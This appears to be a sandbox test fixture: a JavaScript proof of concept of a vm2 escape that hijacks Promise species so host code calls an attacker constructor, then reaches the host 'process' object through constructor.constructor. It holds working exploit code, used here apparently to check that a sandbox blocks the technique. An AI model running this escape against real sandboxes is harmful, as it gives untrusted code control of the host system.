// attack: vm2's escape through Promise species: the host's own promise calls a constructor of the program
// outcome: ok false
// control: outside
let reached;
class Thief extends Promise {
  static get [Symbol.species]() {
    return function (executor) {
      executor((value) => (reached ??= value), (error) => (reached ??= error));
    };
  }
}
const failing = async () => {
  const error = new Error();
  error.name = Symbol();
  return error.stack;
};
const promise = failing();
promise.constructor = Thief;
try {
  promise.then();
} catch {}
try {
  const fetched = globalThis.fetch('data:,x');
  fetched.catch(() => {});
  fetched.then.call(promise, () => {});
} catch {}
let process_;
try {
  process_ = (reached ?? 1).constructor.constructor('return process')();
} catch {}
if (globalThis.process && !process_) throw new Error('the control reached nothing');
Boolean(process_);
